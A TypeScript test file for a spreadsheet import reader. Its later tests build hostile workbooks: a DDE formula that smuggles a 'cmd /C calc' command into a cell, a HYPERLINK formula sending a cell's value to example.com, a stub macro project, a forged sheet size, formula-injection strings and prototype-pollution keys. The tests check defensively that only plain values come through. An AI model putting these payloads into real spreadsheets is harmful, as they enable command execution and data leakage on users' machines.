import { readFile } from "node:fs/promises";
import JSZip from "jszip";
import { expect, test } from "vitest";
import { utils, type WorkSheet, write } from "xlsx";
import { IMPORT_LINES_MAX } from "#domain/import/import-limits.ts";
import { readImport } from "./read-import.ts";
import { writeSheet } from "./write-sheet.ts";

const bytes = (text: string) => new TextEncoder().encode(text);

function bookOf(sheet: WorkSheet, bookType: "xlsx" | "biff8" = "xlsx"): Uint8Array {
  const book = utils.book_new();
  utils.book_append_sheet(book, {}, "Empty");
  utils.book_append_sheet(book, sheet, "Lines");
  return new Uint8Array(write(book, { type: "array", bookType }) as ArrayBuffer);
}

test.each(["xlsx", "biff8"] as const)(
  "numbers and dates of %s are held exactly beside what they show, and what a formula came to counts",
  async (type) => {
    const sheet: WorkSheet = {
      "!ref": "A1:E2",
      A1: { t: "n", v: 1234.567, z: "#,##0.0" },
      B1: { t: "n", v: 46_085.5, z: "dd/mm/yyyy hh:mm" },
      C1: { t: "n", v: 3, f: "1+2" },
      E1: { t: "n", v: 0.1 + 0.2 },
      D1: { t: "e", v: 0x2a },
      A2: { t: "s", v: " 007 " },
    };
    expect(await readImport(bookOf(sheet, type))).toEqual({
      ok: true,
      value: [
        [["1,234.6", "1234.567"], ["04/03/2026 12:00", "2026-03-04 12:00:00"], "3", "", "0.3"],
        ["007"],
      ],
    });
  },
);

test("a table as text is texts alone, also of keys that reach into objects", async () => {
  const text = "__proto__,constructor\n=1+1,2026-03-04\n";
  expect(await readImport(bytes(text))).toEqual({
    ok: true,
    value: [
      ["__proto__", "constructor"],
      ["=1+1", "2026-03-04"],
    ],
  });
});

test("what was written for people to fill in is read as it was", async () => {
  const rows = [
    ["*name", "weight"],
    ["'=1+1", 2.5],
  ];
  const content = writeSheet("Form", { headings: 1, rows, merged: [] });
  expect(await readImport(content)).toEqual({
    ok: true,
    value: [
      ["*name", "weight"],
      ["'=1+1", "2.5"],
    ],
  });
});

test.each(["quantities.xlsx", "quantities.xls"])(
  "%s, which LibreOffice wrote, comes in as it stands there",
  async (name) => {
    const sheet = await readImport(await readFile(`tests/data/files/${name}`));
    const day = (shown: string, exact: string) => [shown, `${exact} 00:00:00`];
    expect(sheet).toEqual({
      ok: true,
      value: [
        ["Quantities of pier 4"],
        ["Item", "Unit", "Quantity", "Delivered on"],
        ["Concrete 混凝土", "m³", ["12.50", "12.5"], day("04.03.2026", "2026-03-04")],
        ["Anchor bolts", "pcs", ["16.00", "16"], day("09.03.2026", "2026-03-09")],
        ["Reinforcement", "kg", ["840.00", "840"], day("21.11.2026", "2026-11-21")],
        ["Total", "", ["868.50", "868.5"]],
      ],
    });
  },
);

test("100,000 lines, nothing at all, and what is no sheet are told apart", async () => {
  const many = "a,b\n".repeat(100_000);
  expect(await readImport(bytes(many))).toEqual({ ok: false, error: "tooManyLines" });
  const most = await readImport(bytes("a\n".repeat(IMPORT_LINES_MAX)));
  expect(most.ok && most.value.length).toBe(IMPORT_LINES_MAX);
  expect(await readImport(bytes(",,\n,"))).toEqual({ ok: false, error: "empty" });
  expect(await readImport(Uint8Array.of(0, 1, 2))).toEqual({ ok: false, error: "broken" });
  const cut = (await readFile("tests/data/files/quantities.xlsx")).subarray(0, 700);
  expect(await readImport(cut)).toEqual({ ok: false, error: "broken" });
});

/** A workbook in which something of its sheet is said otherwise. */
async function forged(change: (xml: string) => string): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(bookOf(utils.aoa_to_sheet([["a"], ["b"]])));
  const name = "xl/worksheets/sheet2.xml";
  zip.file(name, change((await zip.file(name)?.async("string")) ?? ""));
  return zip.generateAsync({ type: "uint8array", compression: "DEFLATE" });
}

test("a sheet that lies about its size is read for what stands in it", async () => {
  const lie = await forged((xml) => xml.replace(/ref="[^"]*"/, 'ref="A1:XFD1048576"'));
  expect(await readImport(lie)).toEqual({ ok: true, value: [["a"], ["b"]] });
});

test("of a workbook with macros, links to others and formulas that reach out only what stands in it is read", async () => {
  const zip = await JSZip.loadAsync(
    bookOf({
      "!ref": "A1:B2",
      A1: { t: "s", v: "name" },
      A2: { t: "s", v: "Doors", f: 'HYPERLINK("https://example.com/?"&A1,"Doors")' },
      B2: { t: "n", v: 4, f: "cmd|' /C calc'!A0" },
    }),
  );
  zip.file("xl/vbaProject.bin", Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1));
  const types = (await zip.file("[Content_Types].xml")?.async("string")) ?? "";
  const withMacros = types.replaceAll(
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
  );
  expect(withMacros).not.toBe(types);
  zip.file("[Content_Types].xml", withMacros);
  const content = await zip.generateAsync({ type: "uint8array", compression: "DEFLATE" });
  expect(await readImport(content)).toEqual({ ok: true, value: [["name"], ["Doors", "4"]] });
});
